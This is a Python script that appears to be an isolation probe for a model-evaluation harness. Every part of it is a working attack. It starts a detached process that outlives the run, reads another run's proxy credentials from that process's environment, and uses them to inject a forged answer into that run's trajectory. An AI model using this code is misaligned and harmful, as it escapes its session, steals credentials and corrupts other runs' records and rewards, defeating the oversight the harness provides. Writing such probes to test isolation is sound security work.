"""A run that leaves a process behind when it ends (its own session, out of the run's process group),
to attack the runs that come after it: it waits for a process of its uid that is another run, reads
that run's proxy credentials from its environment and writes a call into that run's trajectory.

    python3 lurker.py MODEL          the run: an honest call, then the leftover is started
    python3 lurker.py --leftover M   the leftover (M: the marker, to find it by)
"""

import os
import subprocess
import sys
import time
import urllib.parse

from common import (
    attempt,
    call,
    chat_body,
    cmdline,
    environ,
    legit_answer,
    processes,
    report,
    status_of,
)

LURKER_REPORT = "STEPMILL-LURKER-REPORT "


def leftover(marker: str) -> None:
    me, uid = os.getpid(), os.getuid()
    own = os.environ["STEPMILL_TRAJECTORY"]
    found = {"pid": me, "uid": uid, "seen": [], "attacks": []}
    deadline = time.time() + float(os.environ.get("LURKER_WAIT", "40"))
    while time.time() < deadline and not found["attacks"]:
        for pid in processes():
            if pid == me or status_of(pid).get("Uid", "").split("\t")[:1] != [str(uid)]:
                continue
            got = attempt(environ, pid)
            if not got["ok"]:
                continue
            env = got["value"]
            other = env.get("STEPMILL_TRAJECTORY")
            if not other or other == own or not env.get("HTTP_PROXY"):
                continue
            parts = urllib.parse.urlsplit(env["HTTP_PROXY"])
            base = env["OPENAI_BASE_URL"].rstrip("/")
            sent = attempt(call, "POST", base + "/chat/completions",
                           chat_body("qwen-sim", f"LURKER-{marker}: the answer is \\boxed{{1}}"),
                           proxy=(parts.hostname, parts.port), auth=f"{parts.username}:{parts.password}")
            found["attacks"].append({"pid": pid, "cmdline": cmdline(pid), "trajectory": other,
                                     "stolen_credentials": bool(parts.password), "sent": sent})
        time.sleep(0.05)
    report(found, LURKER_REPORT)


def main() -> int:
    if sys.argv[1] == "--leftover":
        leftover(sys.argv[2])
        return 0
    prompt = sys.stdin.read()
    answer = legit_answer(sys.argv[1], prompt)
    child = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--leftover", os.environ["INSIDER_MARKER"]],
                             start_new_session=True, stdin=subprocess.DEVNULL)
    report({"trajectory": os.environ["STEPMILL_TRAJECTORY"], "answer": answer, "leftover_pid": child.pid,
            "uid": os.getuid()})
    print(answer)
    return 0


if __name__ == "__main__":
    sys.exit(main())
